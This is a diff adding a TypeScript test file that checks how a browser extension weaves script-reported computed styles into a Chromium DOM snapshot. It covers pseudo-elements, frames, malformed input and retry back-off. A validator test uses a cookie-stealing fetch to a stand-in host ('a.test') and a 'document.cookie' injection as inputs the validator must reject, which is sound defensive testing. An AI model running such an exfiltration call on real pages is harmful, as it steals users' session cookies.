@@ -1,0 +1,204 @@
+// Weaving what a script told of the styles into a snapshot that has none: by the order of elements, or not at all.
+// tests/extension/woven_styles.test.ts holds it to what Chromium itself would have put there.
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+
+import {
+  PSEUDO_ELEMENTS,
+  computedStylesExpression,
+  isComputedStylesExpression,
+  namesOf,
+  weaveStyles,
+} from '../../js-glue/src/computed_styles.js';
+import { ALL_STYLES } from '../../js-glue/src/session_tree.js';
+import { Weaving } from '../../js-glue/src/weaving.js';
+
+interface Node {
+  name: string;
+  parent: number;
+  type?: number;
+  hasBox?: boolean;
+  isPseudo?: boolean;
+  content?: number;
+}
+
+const kDocument: Node = { name: '#document', parent: -1, type: 9 };
+const kText = { name: '#text', type: 3 };
+
+function snapshotOf(...documents: Node[][]) {
+  const strings: string[] = [];
+  const position = (text: string): number => strings.push(text) - 1;
+  const positions = (nodes: Node[], is: (node: Node) => boolean): number[] =>
+    nodes.flatMap((node, k) => (is(node) ? [k] : []));
+  return {
+    strings,
+    documents: documents.map((nodes) => {
+      const boxes = positions(nodes, ({ hasBox }) => hasBox !== false);
+      const owners = positions(nodes, ({ content }) => content !== undefined);
+      return {
+        nodes: {
+          parentIndex: nodes.map(({ parent }) => parent),
+          nodeType: nodes.map(({ type }) => type ?? 1),
+          nodeName: nodes.map(({ name }) => position(name)),
+          pseudoType: { index: positions(nodes, ({ isPseudo }) => isPseudo === true) },
+          contentDocumentIndex: { index: owners, value: owners.map((k) => nodes[k]?.content ?? -1) },
+        },
+        layout: { nodeIndex: boxes, styles: boxes.map((): number[] => []) },
+      };
+    }),
+  };
+}
+
+function stylesIn({ strings, documents }: ReturnType<typeof snapshotOf>): string[][] {
+  return documents.map(({ layout }) => layout.styles.map((row) => row.map((at) => strings[at]).join(' ')));
+}
+
+/** `units` with a letter for each set, from A on. */
+function told(sets: string[][], units: string, frames: unknown[] = []): unknown {
+  return { result: { type: 'string', value: JSON.stringify({ sets, page: { units: unitsOf(units), frames } }) } };
+}
+
+function unitsOf(letters: string): string {
+  return letters.replace(/[A-Z]/g, (letter) => String.fromCharCode(64 + letter.charCodeAt(0) - 65));
+}
+
+const kSets = [
+  ['html', 'block'],
+  ['p', 'block'],
+  ['b', 'inline'],
+  ['::before', 'inline'],
+  ['iframe', 'inline'],
+];
+const kPage: Node[] = [
+  kDocument,
+  { name: 'HTML', parent: 0 },
+  { name: 'P', parent: 1 },
+  { ...kText, parent: 2 },
+  { name: 'B', parent: 1 },
+];
+
+describe('weaving', () => {
+  test('gives every box the set of its element, and texts that of their parent', () => {
+    const snapshot = snapshotOf(kPage);
+    assert.ok(weaveStyles(snapshot, told(kSets, 'ABC'), new Set()));
+    assert.deepEqual(stylesIn(snapshot), [['', 'block', 'block', 'block', 'inline']]);
+    assert.equal(snapshot.strings.filter((text) => text === 'block').length, 1);
+  });
+
+  test('gives pseudo-elements theirs, tells of them, and passes over those without a box', () => {
+    const page: Node[] = [...kPage, { name: '::before', parent: 4, isPseudo: true }, { ...kText, parent: 5 }];
+    const snapshot = snapshotOf(page);
+    const found = new Set<string>();
+    assert.ok(weaveStyles(snapshot, told(kSets, 'AB<DC<D'), found));
+    assert.deepEqual(stylesIn(snapshot)[0]?.slice(-2), ['inline', 'inline']);
+    assert.deepEqual([...found], ['::before']);
+  });
+
+  test('leaves out what has no boxes', () => {
+    const page: Node[] = [
+      ...kPage,
+      { name: 'B', parent: 2, hasBox: false },
+      { name: 'TEMPLATE', parent: 1, hasBox: false },
+      { name: '#document-fragment', parent: 6, type: 11, hasBox: false },
+      { name: 'LINK', parent: 7, hasBox: false },
+    ];
+    page[2] = { name: 'P', parent: 1, hasBox: false };
+    page[3] = { ...kText, parent: 2, hasBox: false };
+    const snapshot = snapshotOf(page);
+    assert.ok(weaveStyles(snapshot, told([...kSets, ['template', 'none']], 'AB!CF!'), new Set()));
+    const folded = snapshotOf(page);
+    assert.ok(weaveStyles(folded, told([...kSets, ['template', 'none']], 'A?CF!'), new Set()));
+  });
+
+  test('goes into the frames that the script could see', () => {
+    const framed: Node[] = [...kPage, { name: 'IFRAME', parent: 1, content: 1 }];
+    const inner = { units: unitsOf('AC'), frames: [] };
+    const inside: Node[] = [kDocument, { name: 'HTML', parent: 0 }, { name: 'B', parent: 1 }];
+    const snapshot = snapshotOf(framed, inside);
+    assert.ok(weaveStyles(snapshot, told(kSets, 'ABCE', [[3, inner]]), new Set()));
+    assert.deepEqual(stylesIn(snapshot)[1], ['', 'block', 'inline']);
+    assert.ok(!weaveStyles(snapshotOf(framed, inside), told(kSets, 'ABCE'), new Set()), 'a frame that was not told');
+    const hidden = [
+      { ...kDocument, hasBox: true },
+      { name: 'HTML', parent: 0, hasBox: false },
+    ];
+    assert.ok(weaveStyles(snapshotOf(framed, hidden), told(kSets, 'ABCE'), new Set()), 'one without boxes');
+  });
+
+  const others: Array<[what: string, letters: string, page?: Node[]]> = [
+    ['an element too many', 'ABCC'],
+    ['one too few', 'AB'],
+    ['another in its place', 'ACB'],
+    ['a set that was never told', 'ABZ'],
+    ['a mark without a set', 'ABC<'],
+    ['a box where the script saw none', 'AB!C'],
+    ['a box in what was folded away', 'A?C'],
+    ['a pseudo-element that was not told', 'ABC', [...kPage, { name: '::after', parent: 4, isPseudo: true }]],
+  ];
+  for (const [what, letters, page] of others) {
+    test(`does nothing with ${what}`, () => {
+      assert.equal(weaveStyles(snapshotOf(page ?? kPage), told(kSets, letters), new Set()), false);
+    });
+  }
+
+  test('takes nothing that is not what it asked for', () => {
+    const good = told(kSets, 'ABC');
+    for (const reply of [undefined, {}, { result: {} }, { result: { value: 7 } }, { result: { value: '{"sets":' } }]) {
+      assert.equal(weaveStyles(snapshotOf(kPage), reply, new Set()), false);
+    }
+    for (const value of [
+      'null',
+      '[]',
+      '{"sets":[[1]],"page":{"units":"","frames":[]}}',
+      '{"sets":[],"page":{"units":1}}',
+    ]) {
+      assert.equal(weaveStyles(snapshotOf(kPage), { result: { value } }, new Set()), false);
+    }
+    for (const snapshot of [
+      null,
+      {},
+      { documents: [], strings: [] },
+      { documents: [{}], strings: [] },
+      { documents: 3 },
+    ]) {
+      assert.equal(weaveStyles(snapshot, good, new Set()), false);
+    }
+  });
+});
+
+test('only its own expressions are known as such, with any of its names', () => {
+  const expression = computedStylesExpression(ALL_STYLES, PSEUDO_ELEMENTS);
+  assert.ok(isComputedStylesExpression(expression));
+  assert.ok(isComputedStylesExpression(computedStylesExpression(0, [])));
+  for (const other of [
+    undefined,
+    'document.cookie',
+    expression.replace('"display"', '"display", document.cookie'),
+    expression.replace('"display"', '"constructor"'),
+    `${expression}, fetch("//a.test/" + document.cookie)`,
+    expression.replace('getComputedStyle', 'parseInt'),
+  ]) {
+    assert.equal(isComputedStylesExpression(other), false, String(other).slice(-80));
+  }
+  assert.equal(namesOf(0b11).length, 2);
+});
+
+test('where weaving fails it is left out for longer and longer, until it succeeds again', () => {
+  const weaving = new Weaving();
+  const leftOut = (): number => {
+    let times = 0;
+    while (!weaving.mayTry()) times += 1;
+    return times;
+  };
+  weaving.succeeded(['::marker']);
+  assert.deepEqual(weaving.pseudoElements, ['::marker']);
+  const times = Array.from({ length: 8 }, () => {
+    weaving.failed();
+    return leftOut();
+  });
+  assert.deepEqual(times, [1, 2, 4, 8, 16, 32, 32, 32]);
+  assert.deepEqual(weaving.pseudoElements, PSEUDO_ELEMENTS);
+  weaving.succeeded([]);
+  weaving.failed();
+  assert.equal(leftOut(), 1);
+});
